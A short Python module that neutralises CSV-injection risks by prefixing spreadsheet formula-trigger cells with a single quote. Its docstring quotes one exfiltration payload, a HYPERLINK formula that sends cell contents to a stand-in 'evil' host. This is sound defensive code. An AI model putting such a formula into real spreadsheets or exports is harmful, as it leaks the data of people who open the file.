"""CSV cells that a spreadsheet won't run as formulas (OWASP's "CSV injection" rule).

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil?"&A1, "open")`` leaks the
sheet). Such a cell gets a leading single quote, which spreadsheets show as text. Numbers are
written as they are: they are ours, not contributed.
"""

from __future__ import annotations

from datetime import datetime

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """``value`` as a CSV writer should get it: ``None`` as empty, risky text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | datetime):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text
